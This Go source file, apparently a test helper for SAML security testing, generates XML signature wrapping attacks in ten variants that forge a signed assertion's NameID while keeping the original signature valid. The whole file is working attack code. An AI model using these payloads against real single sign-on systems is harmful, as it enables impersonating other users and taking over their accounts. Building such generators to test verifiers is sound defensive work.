package hostile

import (
	"slices"

	"github.com/beevik/etree"
)

// XSWVariants is the number of variants that XSW knows.
const XSWVariants = 10

// XSW wraps a signed assertion so that its signature stays valid over what it was made for while a careless reader
// takes the user from a forged assertion, which has nameID: XML signature wrapping. Variants, after the usual numbering
// as far as it fits a document whose root is an assertion:
//
//	1   forged root; its signature encloses the original
//	2   forged root; the original, then the signature, at its end
//	3   forged root; the signed original as first child
//	4   forged root; the signed original as last child
//	5   forged root with the signature in its own place; the original at its end
//	6   forged root with the signature in its own place; the original within KeyInfo
//	7   forged root; the signed original within Advice
//	8   forged root with the signature in its own place; the original within the signature's Object
//	9   original root; the forged assertion within its signature's Object, which an enveloped signature does not cover
//	10  as 4, both with the same ID
func XSW(signed []byte, variant int, nameID string) []byte {
	original := parse(signed)
	signature := child(original, "Signature")
	forged := original.Copy()
	forged.RemoveChild(child(forged, "Signature"))
	forged.CreateAttr("ID", original.SelectAttrValue("ID", "")+"f")
	child(child(forged, "Subject"), "NameID").SetText(nameID)
	bare := original.Copy()
	bare.RemoveChild(child(bare, "Signature"))

	root := forged
	switch variant {
	case 1:
		adopt(forged, signature)
		signature.AddChild(bare)
	case 2:
		forged.AddChild(bare)
		forged.AddChild(signature)
	case 3:
		forged.InsertChildAt(0, original)
	case 4:
		forged.AddChild(original)
	case 5:
		adopt(forged, signature)
		forged.AddChild(bare)
	case 6:
		adopt(forged, signature)
		child(signature, "KeyInfo").AddChild(bare)
	case 7:
		advice := etree.NewElement("saml:Advice")
		advice.AddChild(original)
		forged.InsertChildAt(child(forged, "Conditions").Index()+1, advice)
	case 8:
		adopt(forged, signature)
		signature.CreateElement("ds:Object").AddChild(bare)
	case 9:
		root = original
		signature.CreateElement("ds:Object").AddChild(forged)
	case 10:
		forged.CreateAttr("ID", original.SelectAttrValue("ID", ""))
		forged.AddChild(original)
	default:
		panic("hostile: XSW knows variants 1 to 10")
	}
	return write(root)
}

// adopt puts a signature where an assertion has its own: after the Issuer.
func adopt(assertion, signature *etree.Element) {
	assertion.InsertChildAt(child(assertion, "Issuer").Index()+1, signature)
}

func parse(document []byte) *etree.Element {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(document); err != nil {
		panic(err)
	}
	if doc.Root() == nil || doc.Root().Tag != "Assertion" {
		panic("hostile: the document is not an assertion")
	}
	return doc.Root()
}

func write(root *etree.Element) []byte {
	doc := etree.NewDocument()
	doc.SetRoot(root)
	return must(doc.WriteToBytes())
}

func child(el *etree.Element, tag string) *etree.Element {
	children := el.ChildElements()
	at := slices.IndexFunc(children, func(c *etree.Element) bool { return c.Tag == tag })
	if at < 0 {
		panic("hostile: " + el.Tag + " has no " + tag)
	}
	return children[at]
}
